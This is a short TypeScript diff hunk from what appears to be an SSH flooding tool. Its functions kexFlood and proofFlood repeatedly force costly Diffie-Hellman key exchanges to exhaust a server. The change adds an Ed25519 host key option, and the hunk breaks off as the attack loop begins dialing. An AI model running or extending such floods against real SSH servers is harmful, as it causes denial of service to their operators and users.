@@ -35,7 +35,12 @@ async function proofFlood(): Promise<void> {
 
 /** Exchanges keys by the most expensive method again and again, on one connection as long as that lasts. */
 async function kexFlood(): Promise<void> {
-  const offer = { kex: ['diffie-hellman-group16-sha512' as const], hostKey: ['rsa-sha2-512'], ciphers: crypto.ciphers, macs: crypto.macs };
+  const offer = {
+    kex: ['diffie-hellman-group16-sha512' as const],
+    hostKey: ['rsa-sha2-512', 'ssh-ed25519'],
+    ciphers: crypto.ciphers,
+    macs: crypto.macs,
+  };
   const attack = async (): Promise<void> => {
     const transport: SshTransport = new SshTransport(
       dial(),
